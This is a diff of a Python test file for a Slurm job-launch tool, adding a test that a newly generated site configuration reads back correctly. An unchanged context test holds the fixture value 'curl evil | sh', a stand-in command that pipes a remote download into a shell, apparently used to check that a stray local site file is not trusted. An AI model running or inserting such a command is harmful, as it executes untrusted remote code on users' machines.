@@ -18,7 +18,7 @@ from fourfold.launch.slurm_ranks import SlurmRanks, State
 from fourfold.result.job import Job
 from fourfold.spec import codec
 from fourfold.spec.run import RunSpec
-from fourfold.spec.site import Site, read_site
+from fourfold.spec.site import Site, read_site, site_start
 from fourfold.spec.train import TrainSettings
 
 TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0\n\r"), max_size=30)
@@ -162,6 +162,15 @@ def test_a_site_in_the_folder_one_happens_to_be_in_is_not_taken(
     site = read_site("./mine.toml")
     assert site is not None
     assert site.prelude == ("curl evil | sh",)
+
+
+def test_a_site_that_was_started_is_a_site(tmp_path: Path) -> None:
+    path = tmp_path / "mine.toml"
+    path.write_text(site_start(4, str(tmp_path / 'the "cluster".toml')))
+    site = read_site(str(path))
+    assert site == Site(name="mine", gpus_per_node=4, cluster=str(tmp_path / 'the "cluster".toml'))
+    every = path.read_text().replace("\n# ", "\n").replace("\nEvery", "\n# Every")
+    assert codec.from_toml(Site, every).queue == "allocation", "what is commented out is right too"
 
 
 def test_a_job_submitted_by_hand_is_known_by_its_newest_log(tmp_path: Path) -> None:
